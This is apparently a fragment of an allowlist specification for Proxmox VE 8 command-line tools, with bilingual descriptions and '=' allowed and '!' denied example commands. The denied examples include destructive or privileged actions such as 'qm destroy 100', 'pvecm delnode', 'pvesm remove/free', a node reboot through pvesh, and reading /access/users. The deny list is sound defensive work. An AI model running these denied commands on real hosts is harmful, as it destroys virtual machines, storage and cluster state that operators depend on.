  ! qm destroy 100

pveversion | shows the version of Proxmox | 显示 Proxmox 版本
  from Proxmox VE 8 pveversion(1)
  -v --verbose | all packages | 所有软件包
  = pveversion
  = pveversion -v
  ! pveversion --frobnicate

pvecm: status, nodes | shows the cluster of Proxmox | 显示 Proxmox 集群
  from Proxmox VE 8 pvecm(1)
  = pvecm status
  = pvecm nodes
  ! pvecm delnode x
  ! pvecm expected 1

pvesm: status | shows the storage of Proxmox | 显示 Proxmox 存储
  from Proxmox VE 8 pvesm(1)
  = pvesm status
  = pvesm status
  ! pvesm remove x
  ! pvesm free x

pvesh: get | asks the interface of Proxmox | 查询 Proxmox 接口
  from Proxmox VE 8 pvesh(1)
  --output-format -output-format={text,json,json-pretty,yaml}
  operands /\/(?:version|nodes|storage|cluster\/(?:resources|status|tasks)|nodes\/[\w-]+\/(?:status|qemu|lxc|storage|tasks|version|time|services))/
  = pvesh get /cluster/resources
  = pvesh get /nodes/pve/status --output-format json
  ! pvesh get /nodes/pve/qemu/100/vncwebsocket
  ! pvesh get /access/users
  ! pvesh create /nodes/pve/status -command reboot
  ! pvesh set /x
  ! pvesh delete /x
`
